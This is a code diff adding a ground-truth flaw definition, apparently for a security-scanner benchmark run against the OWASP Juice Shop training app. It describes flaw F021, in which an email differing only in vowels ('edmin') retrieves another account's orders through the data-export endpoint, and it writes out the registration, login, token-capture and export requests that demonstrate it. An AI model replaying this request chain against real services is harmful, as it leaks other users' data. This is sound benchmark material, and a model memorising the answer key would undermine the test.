@@ -1,0 +1,44 @@
+import { defineFlaws } from '#game/ground-truth/define-flaws.ts'
+
+export default defineFlaws({
+  flaws: [
+    {
+      id: 'F021',
+      title: 'Addresses that differ in vowels share their orders',
+      cvss: 'AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
+      route: 'POST /rest/user/data-export',
+      parameter: 'email',
+      parameterIn: 'body',
+      evidence: ['manual'],
+      isExpectedOfScanners: false,
+      shows: {
+        method: 'POST',
+        path: '/rest/user/data-export',
+        body: { format: '1' },
+        before: [
+          {
+            method: 'POST',
+            path: '/api/Users/',
+            body: { email: 'edmin@juice-sh.op', password: 'squeeze-me', passwordRepeat: 'squeeze-me' },
+          },
+          {
+            method: 'POST',
+            path: '/rest/user/login',
+            body: { email: 'edmin@juice-sh.op', password: 'squeeze-me' },
+            takes: { edmin: '"token":"([^"]+)"' },
+          },
+        ],
+        headers: { authorization: 'Bearer {{edmin}}' },
+        has: ['5267-7cb88a9c905a7fbb'],
+      },
+      mustNot: {
+        method: 'POST',
+        path: '/rest/user/data-export',
+        body: { format: '1' },
+        session: 'customer',
+        has: ['taster@example.org'],
+        lacks: ['5267-7cb88a9c905a7fbb'],
+      },
+    },
+  ],
+})
